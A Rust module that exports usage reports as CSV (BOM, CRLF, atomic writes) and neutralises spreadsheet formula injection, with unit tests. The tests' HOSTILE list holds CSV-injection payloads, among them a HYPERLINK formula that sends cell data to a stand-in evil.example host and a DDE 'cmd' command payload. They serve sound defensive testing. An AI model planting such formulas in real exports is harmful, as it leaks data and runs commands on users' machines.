//! Usage reports as CSV that Excel, LibreOffice and pandas open as they should, streamed in
//! constant memory (docs/REPORTS.md, "CSV").
//!
//! - **Dialect**: RFC 4180 through the `csv` crate: comma-separated, CRLF line ends, a field
//!   quoted (with `""` for a quote) only when it holds a comma, quote, CR or LF; one header
//!   row: `group,metric,unit,bucket_start,days,value`.
//! - **Encoding**: UTF-8. A file written by [`export_csv`] (and the CLI's `--output`) starts
//!   with a byte-order mark, because Excel opens a BOM-less `.csv` in the machine's ANSI code
//!   page and garbles every non-ASCII name; LibreOffice, pandas (`read_csv`), Python's
//!   `utf-8-sig` and the `csv` crate skip it. CSV written to a stream for programs
//!   ([`write_usage_csv`] with `bom: false`, the CLI's stdout) has none, so the first header
//!   is `group` and not `\u{feff}group` for a plain `csv.reader`.
//! - **Values**: dates ISO 8601 (`2026-03-01`); numbers plain: `.` for the decimal point, no
//!   thousands separator, no exponent (Rust's shortest round-trip form of a sum kept to 15
//!   significant digits, see [`crate::report::tidy`]).
//! - **CSV injection** (OWASP): a *text* cell (partner, tier, metric, unit) that begins with
//!   `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so a spreadsheet
//!   shows it as text instead of running it as a formula. Number and date cells are never
//!   changed: they are written by this module from numbers, so `-12.5` stays the number
//!   `-12.5`. The `'` stays in the text for programs: `'=cmd` read back is `'=cmd`.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::{Path, PathBuf};

use rusqlite::Connection;

use crate::clock::Clock;
use crate::error::{Error, Result};
use crate::report::{PreparedReport, UsageQuery};

/// The header row.
pub const HEADER: [&str; 6] = ["group", "metric", "unit", "bucket_start", "days", "value"];

/// The UTF-8 byte-order mark written at the start of a CSV file.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// How often the progress callback hears from a long export (and once at the end).
pub const PROGRESS_EVERY_ROWS: u64 = 65_536;

/// A text cell as a spreadsheet will not run it: one that begins with `=`, `+`, `-`, `@`, a
/// tab or a carriage return gets a leading `'` (OWASP CSV injection). Only for text cells:
/// numbers are written as numbers and never pass through here.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Writes the usage report `query` as CSV to `out`, a row at a time, and returns the rows
/// written (without the header). `progress` is called with the rows written so far every
/// [`PROGRESS_EVERY_ROWS`] rows and once at the end. Writes a BOM first when `bom` is set.
pub fn write_usage_csv<W: Write>(
    conn: &Connection,
    clock: &dyn Clock,
    query: &UsageQuery,
    out: W,
    bom: bool,
    progress: impl FnMut(u64),
) -> Result<u64> {
    let prepared = PreparedReport::new(conn, clock, query)?;
    write_prepared(conn, &prepared, out, bom, progress)
}

/// [`write_usage_csv`] for a report already prepared (validated and resolved).
pub fn write_prepared<W: Write>(
    conn: &Connection,
    prepared: &PreparedReport,
    mut out: W,
    bom: bool,
    mut progress: impl FnMut(u64),
) -> Result<u64> {
    if bom {
        out.write_all(BOM).map_err(write_error)?;
    }
    let mut csv = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .buffer_capacity(64 * 1024)
        .from_writer(out);
    csv.write_record(HEADER).map_err(csv_error)?;
    // Each bucket's date and day count, formatted once.
    let bucket_cells: Vec<(String, String)> = prepared
        .buckets
        .iter()
        .map(|b| (b.start.to_string(), b.days.to_string()))
        .collect();
    let mut value = String::with_capacity(32);
    let mut rows: u64 = 0;
    prepared.for_each_row(conn, |row| {
        let (start, days) = &bucket_cells[row.bucket];
        value.clear();
        write_number(&mut value, row.value);
        csv.write_record([
            neutralise(row.group).as_bytes(),
            neutralise(row.metric).as_bytes(),
            neutralise(row.unit).as_bytes(),
            start.as_bytes(),
            days.as_bytes(),
            value.as_bytes(),
        ])
        .map_err(csv_error)?;
        rows += 1;
        if rows.is_multiple_of(PROGRESS_EVERY_ROWS) {
            progress(rows);
        }
        Ok(())
    })?;
    csv.flush().map_err(write_error)?;
    progress(rows);
    Ok(rows)
}

/// Exports the usage report `query` to the CSV file `path` (with a BOM, for Excel): written to
/// a temporary file beside it and renamed over `path` only when complete, so `path` is either
/// untouched or whole. Returns the rows written; `progress` as in [`write_usage_csv`].
///
/// This is the call for the desktop's reports page.
pub fn export_csv(
    path: &Path,
    conn: &Connection,
    clock: &dyn Clock,
    query: &UsageQuery,
    progress: impl FnMut(u64),
) -> Result<u64> {
    let prepared = PreparedReport::new(conn, clock, query)?;
    write_file_atomically(path, |file| {
        write_prepared(conn, &prepared, file, true, progress)
    })
}

/// Writes `path` through `write` atomically: into a new temporary file in the same folder,
/// flushed and synced, then renamed over `path`. On any error (or a panic) the temporary file
/// is removed and `path` is left as it was.
pub fn write_file_atomically<T>(
    path: &Path,
    write: impl FnOnce(&mut BufWriter<File>) -> Result<T>,
) -> Result<T> {
    let dir = match path.parent() {
        Some(d) if !d.as_os_str().is_empty() => d.to_path_buf(),
        _ => PathBuf::from("."),
    };
    let name = path.file_name().ok_or_else(|| {
        Error::invalid("output", format!("{} is not a file name", path.display()))
    })?;
    let temp = dir.join(format!(
        ".{}.{}.tmp",
        name.to_string_lossy(),
        uuid::Uuid::new_v4().simple()
    ));
    let io = |what: &str, source: std::io::Error| Error::Io {
        context: format!("cannot {what} {}", path.display()),
        source,
    };
    let file = File::options()
        .write(true)
        .create_new(true)
        .open(&temp)
        .map_err(|e| io("write", e))?;
    let guard = RemoveOnDrop(Some(temp.clone()));
    let mut out = BufWriter::with_capacity(256 * 1024, file);
    let value = write(&mut out)?;
    let file = out.into_inner().map_err(|e| io("write", e.into_error()))?;
    file.sync_all().map_err(|e| io("write", e))?;
    drop(file);
    std::fs::rename(&temp, path).map_err(|e| io("replace", e))?;
    guard.disarm();
    Ok(value)
}

/// Removes a temporary file unless disarmed (an error or a panic before the rename).
struct RemoveOnDrop(Option<PathBuf>);

impl RemoveOnDrop {
    fn disarm(mut self) {
        self.0 = None;
    }
}

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        if let Some(path) = self.0.take() {
            let _ = std::fs::remove_file(path);
        }
    }
}

/// A number as CSV writes it: plain decimal, no exponent, no thousands separator.
pub fn write_number(out: &mut String, value: f64) {
    // f64's Display is the shortest form that reads back as the same number, and never uses
    // an exponent; -0 is written as 0.
    let _ = write!(out, "{}", if value == 0.0 { 0.0 } else { value });
}

fn csv_error(e: csv::Error) -> Error {
    match e.into_kind() {
        csv::ErrorKind::Io(source) => write_error(source),
        other => Error::Io {
            context: "cannot write CSV".into(),
            source: std::io::Error::other(format!("{other:?}")),
        },
    }
}

fn write_error(source: std::io::Error) -> Error {
    Error::Io {
        context: "cannot write CSV".into(),
        source,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::clock::FixedClock;
    use crate::report::{day_number, Bucket, GroupBy};
    use crate::store::Store;
    use chrono::NaiveDate;
    use rusqlite::params;

    const HOSTILE: [&str; 12] = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "@SUM(A1:A9)",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "\tTabbed",
        "\rReturn",
        "has \"quotes\"",
        "has, commas",
        "two\nlines",
        "Zürich – 東京 ✓",
        "plain",
        "=",
    ];

    fn d(text: &str) -> NaiveDate {
        text.parse().unwrap()
    }

    /// One partner per hostile name (premium), one metric per hostile name (unit `u`), and a
    /// record of each partner for each metric on 2026-03-02 (value: partner × 10 + metric,
    /// negative for odd partners).
    fn hostile_store() -> Store {
        let store = Store::open_in_memory().unwrap();
        let conn = store.conn();
        for (i, name) in HOSTILE.iter().enumerate() {
            conn.execute(
                "INSERT INTO partners (name, kind, endpoint, tier, lifecycle, check_interval_secs, \
                 check_timeout_secs, created_at, updated_at) \
                 VALUES (?1, 'http', 'https://example.com', 'premium', 'active', 60, 10, 'x', 'x')",
                params![name],
            )
            .unwrap();
            conn.execute(
                "INSERT INTO usage_metrics (name, unit, source) VALUES (?1, ?2, 'platform')",
                params![format!("m{i:02} {name}"), if i == 2 { "-GB" } else { "u" }],
            )
            .unwrap();
        }
        conn.execute_batch(&format!(
            "INSERT INTO usage_records (partner_id, metric_id, day, value, collected_at) \
             SELECT p.id, m.id, {}, (p.id * 10 + m.id) * (CASE p.id % 2 WHEN 1 THEN -1.5 ELSE 1 END), 0 \
             FROM partners p, usage_metrics m",
            day_number(d("2026-03-02"))
        ))
        .unwrap();
        store
    }

    fn query() -> UsageQuery {
        UsageQuery {
            from: d("2026-03-01"),
            to: d("2026-03-31"),
            partner: None,
            group_by: GroupBy::Partner,
            bucket: Bucket::Day,
        }
    }

    fn clock() -> FixedClock {
        FixedClock::on(d("2027-01-01"))
    }

    #[test]
    fn formula_cells_get_a_quote_and_others_are_left_alone() {
        assert_eq!(neutralise("=1+2"), "'=1+2");
        assert_eq!(neutralise("+1"), "'+1");
        assert_eq!(neutralise("-2+3"), "'-2+3");
        assert_eq!(neutralise("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(neutralise("\tx"), "'\tx");
        assert_eq!(neutralise("\rx"), "'\rx");
        assert_eq!(neutralise("a=b"), "a=b");
        assert_eq!(neutralise("Zürich"), "Zürich");
        assert_eq!(neutralise(""), "");
        assert!(matches!(neutralise("acme"), Cow::Borrowed(_)));
    }

    #[test]
    fn hostile_names_round_trip_through_a_csv_reader_neutralised() {
        let store = hostile_store();
        let mut out = Vec::new();
        let mut seen = Vec::new();
        let rows = write_usage_csv(store.conn(), &clock(), &query(), &mut out, false, |n| {
            seen.push(n)
        })
        .unwrap();
        let n = HOSTILE.len() as u64;
        assert_eq!(rows, n * n);
        assert_eq!(seen, vec![n * n], "progress hears the end");
        assert!(!out.starts_with(BOM), "no BOM on a stream");
        let text = String::from_utf8(out.clone()).expect("UTF-8");
        assert!(text.starts_with("group,metric,unit,bucket_start,days,value\r\n"));

        let mut reader = csv::Reader::from_reader(out.as_slice());
        assert_eq!(reader.headers().unwrap(), HEADER.as_slice());
        let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(records.len() as u64, rows);
        let mut partners = HOSTILE.to_vec();
        partners.sort();
        let mut metrics: Vec<String> = HOSTILE
            .iter()
            .enumerate()
            .map(|(i, name)| format!("m{i:02} {name}"))
            .collect();
        metrics.sort();
        for (i, record) in records.iter().enumerate() {
            let (partner, metric) = (partners[i / HOSTILE.len()], &metrics[i % HOSTILE.len()]);
            assert_eq!(&record[0], neutralise(partner), "row {i}");
            assert_eq!(&record[1], metric.as_str(), "metric names start with m");
            let unit = if metric.starts_with("m02 ") {
                "'-GB"
            } else {
                "u"
            };
            assert_eq!(&record[2], unit);
            assert_eq!(&record[3], "2026-03-02");
            assert_eq!(record[3].parse::<NaiveDate>().unwrap(), d("2026-03-02"));
            assert_eq!(&record[4], "1");
            let value: f64 = record[5].parse().expect("a plain number");
            assert!(value != 0.0);
            assert!(!record[5].starts_with('\''), "numbers are never prefixed");
            assert!(
                record[0].starts_with('\'')
                    || !record[0].starts_with(['=', '+', '-', '@', '\t', '\r']),
                "no text cell starts a formula: {:?}",
                &record[0]
            );
        }
        assert!(
            records.iter().any(|r| r[5].starts_with('-')),
            "negative numbers stay numbers"
        );
        assert!(
            records.iter().any(|r| &r[0] == "Zürich – 東京 ✓"),
            "non-ASCII as is"
        );
        assert!(
            records.iter().any(|r| &r[0] == "two\nlines"),
            "a newline stays inside its quoted field"
        );
    }

    #[test]
    fn a_file_export_starts_with_a_bom_that_readers_skip_and_is_replaced_whole() {
        let store = hostile_store();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("usage.csv");
        std::fs::write(&path, "old").unwrap();
        let rows = export_csv(&path, store.conn(), &clock(), &query(), |_| {}).unwrap();
        let bytes = std::fs::read(&path).unwrap();
        assert!(bytes.starts_with(BOM));
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        assert_eq!(reader.headers().unwrap(), HEADER.as_slice(), "BOM skipped");
        assert_eq!(reader.records().count() as u64, rows);
        assert_eq!(
            std::fs::read_dir(dir.path()).unwrap().count(),
            1,
            "no temporary file left"
        );
    }

    #[test]
    fn a_failed_export_leaves_the_old_file_and_no_temporary_file() {
        let store = hostile_store();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("usage.csv");
        std::fs::write(&path, "old").unwrap();

        let mut bad = query();
        bad.partner = Some("nobody".into());
        let err = export_csv(&path, store.conn(), &clock(), &bad, |_| {}).unwrap_err();
        assert_eq!(err.field(), Some("partner"));

        // A failure half-way through writing.
        let err = write_file_atomically(&path, |file| {
            file.write_all(b"group,metric\r\nhalf").unwrap();
            file.flush().unwrap();
            Err::<(), _>(Error::invalid("test", "stopped half-way"))
        })
        .unwrap_err();
        assert_eq!(err.field(), Some("test"));

        // A panic half-way through.
        let caught = std::panic::catch_unwind(|| {
            let _ = write_file_atomically(&path, |file| -> Result<()> {
                file.write_all(b"half").unwrap();
                panic!("boom");
            });
        });
        assert!(caught.is_err());

        assert_eq!(std::fs::read_to_string(&path).unwrap(), "old");
        assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1);

        // A folder that does not exist: nothing is created.
        let missing = dir.path().join("no/such/folder/usage.csv");
        let err = export_csv(&missing, store.conn(), &clock(), &query(), |_| {}).unwrap_err();
        assert!(!err.is_bad_input(), "an I/O failure: {err}");
        assert!(!missing.exists());
    }

    #[test]
    fn numbers_are_plain() {
        let text = |v: f64| {
            let mut s = String::new();
            write_number(&mut s, v);
            s
        };
        assert_eq!(text(0.0), "0");
        assert_eq!(text(-0.0), "0");
        assert_eq!(text(1234567.5), "1234567.5");
        assert_eq!(text(-12.25), "-12.25");
        assert_eq!(text(1e21), "1000000000000000000000");
        assert_eq!(text(1e-7), "0.0000001");
        assert_eq!(text(42.0), "42");
    }

    #[test]
    fn progress_is_reported_while_a_long_export_runs() {
        let store = Store::open_in_memory().unwrap();
        let conn = store.conn();
        conn.execute_batch(
            "INSERT INTO partners (name, kind, endpoint, tier, lifecycle, check_interval_secs, \
             check_timeout_secs, created_at, updated_at) \
             VALUES ('acme', 'http', 'https://example.com', 'premium', 'active', 60, 10, 'x', 'x');
             INSERT INTO usage_metrics (name, unit, source) VALUES ('calls', 'calls', 'ecosystem');",
        )
        .unwrap();
        // 400 metrics × 365 days = 146,000 rows: two progress steps and the end.
        let metrics = 400;
        for m in 1..metrics {
            conn.execute(
                "INSERT INTO usage_metrics (name, unit, source) VALUES (?1, 'u', 'platform')",
                params![format!("m{m:03}")],
            )
            .unwrap();
        }
        let first = day_number(d("2025-01-01"));
        conn.execute(
            "WITH RECURSIVE days(day) AS (SELECT ?1 UNION ALL SELECT day + 1 FROM days WHERE day < ?1 + 364) \
             INSERT INTO usage_records (partner_id, metric_id, day, value, collected_at) \
             SELECT 1, m.id, days.day, 1.0, 0 FROM usage_metrics m, days",
            params![first],
        )
        .unwrap();
        let q = UsageQuery {
            from: d("2025-01-01"),
            to: d("2025-12-31"),
            partner: None,
            group_by: GroupBy::Partner,
            bucket: Bucket::Day,
        };
        let mut seen = Vec::new();
        let rows =
            write_usage_csv(conn, &clock(), &q, std::io::sink(), false, |n| seen.push(n)).unwrap();
        assert_eq!(rows, 400 * 365);
        assert_eq!(seen, vec![65_536, 131_072, 146_000]);
    }
}
